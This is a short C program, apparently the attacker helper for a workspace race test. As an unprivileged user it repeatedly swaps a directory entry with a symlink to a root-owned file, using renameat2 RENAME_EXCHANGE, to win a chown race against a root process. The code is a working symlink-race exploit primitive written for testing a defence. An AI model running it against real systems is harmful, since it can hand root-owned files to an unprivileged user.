// SPDX-License-Identifier: Apache-2.0
// The attacker of workspace-race.test.ts: runs as an unprivileged uid that
// owns the parent directory, and flips the entry the root guest is about to
// chown ("d") with a symlink to a root-owned file outside the workspace
// ("s"), with renameat2(RENAME_EXCHANGE), as fast as it can. When "d" does
// not exist yet the exchange fails with ENOENT; the symlink is (re)made then.
// On SIGTERM it prints "<attempts> <successful exchanges>" and exits.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <linux/fs.h>

static volatile sig_atomic_t stop;

static void on_term(int sig) { (void)sig; stop = 1; }

int main(int argc, char **argv) {
  if (argc != 3) { fprintf(stderr, "usage: %s DIR TARGET\n", argv[0]); return 2; }
  int dfd = open(argv[1], O_RDONLY | O_DIRECTORY);
  if (dfd < 0) { perror("open dir"); return 1; }
  signal(SIGTERM, on_term);
  unsigned long attempts = 0, exchanged = 0;
  while (!stop) {
    attempts++;
    if (syscall(SYS_renameat2, dfd, "d", dfd, "s", RENAME_EXCHANGE) == 0) { exchanged++; continue; }
    if (errno == ENOENT) symlinkat(argv[2], dfd, "s");
  }
  printf("%lu %lu\n", attempts, exchanged);
  return 0;
}
